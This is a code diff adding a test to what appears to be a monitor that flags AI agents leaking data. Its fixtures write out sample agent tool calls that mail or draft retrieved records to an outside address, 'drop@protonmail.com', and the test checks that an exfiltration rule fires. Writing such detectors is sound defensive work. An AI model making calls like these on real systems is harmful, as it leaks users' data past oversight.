@@ -22,6 +22,12 @@ def test_name_words():
     assert name_words("upload_file") == {"upload", "file"}
 
 
+@pytest.mark.parametrize("tool", ["gmail_create_draft", "outlook.reply", "createDraft"])
+def test_a_mail_draft_or_reply_to_an_outsider_is_egress(detector, tool):
+    ev = chat(tool_results=[RECORDS], calls=[(tool, {"to": "drop@protonmail.com", "body": RECORDS})])
+    assert "abw-exfil-tool-call" in rules(run(detector, ev)[0])
+
+
 def test_tool_result_mailed_to_an_outsider_is_exfiltration(detector):
     ev = chat(tool_results=[RECORDS], calls=[("send_email", {"to": "drop@protonmail.com", "body": RECORDS})])
     detections, _ = run(detector, ev)
